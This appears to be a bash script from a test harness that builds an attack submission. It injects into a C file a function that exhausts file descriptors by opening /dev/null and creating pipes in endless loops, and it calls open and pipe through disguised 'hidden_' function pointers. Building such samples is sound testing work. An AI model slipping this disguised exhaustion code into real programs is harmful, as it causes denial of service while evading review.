#!/usr/bin/env bash
# make.sh OUTDIR: writes the fd-exhaust-m1 submission into OUTDIR (see ../README).
set -eu
. "$(dirname "$0")/../lib.sh"
OUT=$1
F=phase1-single/fault.c
write_sample "$OUT" $F "$(with_attack $F "$(hidden_prologue open pipe)
#include <fcntl.h>
static void h6_fds(void)
{
    int p[2];
    while (((int (*)(const char *, int, ...))hidden_open)(\"/dev/null\", O_RDONLY) >= 0)
        ;
    while (((int (*)(int *))hidden_pipe)(p) == 0)
        ;
}" '    h6_fds();')"
